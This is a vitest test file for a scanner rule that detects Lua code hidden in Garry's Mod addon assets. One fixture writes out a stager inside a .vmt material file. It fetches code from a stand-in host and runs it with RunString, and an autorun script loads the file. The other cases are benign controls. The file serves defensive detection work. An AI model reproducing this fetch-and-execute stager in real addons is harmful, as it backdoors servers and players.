// Valid and invalid cases of the `hidden_lua_asset` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './hidden_lua_asset.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('hidden_lua_asset', () => {
  it('stager in a .vmt loaded by the addon', () => {
    const findings = check(rule, {
      'materials/x/glow.vmt':
        'timer.Simple(5, function() http.Fetch("https://a.invalid/x", function(b) RunString(b) end) end)',
      'lua/autorun/server/sv_x.lua':
        'local g = file.Read("materials/x/glow.vmt", "GAME")\nif g then RunString(g) end',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('plain material file', () => {
    const findings = check(rule, {
      'materials/x/plain.txt': '"VertexLitGeneric"\n{\n "$basetexture" "x/y"\n}',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('a README that names RunString in a sentence', () => {
    const findings = check(rule, {
      'data_static/myhud/README.txt': [
        'MyHUD customisation',
        'To add your own element, create lua/myhud/elements/myelement.lua:',
        '  MyHUD.AddElement("clock", function(x, y) draw.SimpleText(os.date("%H:%M"), "MyHUD.Bold", x, y) end)',
        'Use hook.Add("MyHUD.Paint", ...) to draw extra things. Do not use RunString in elements.',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
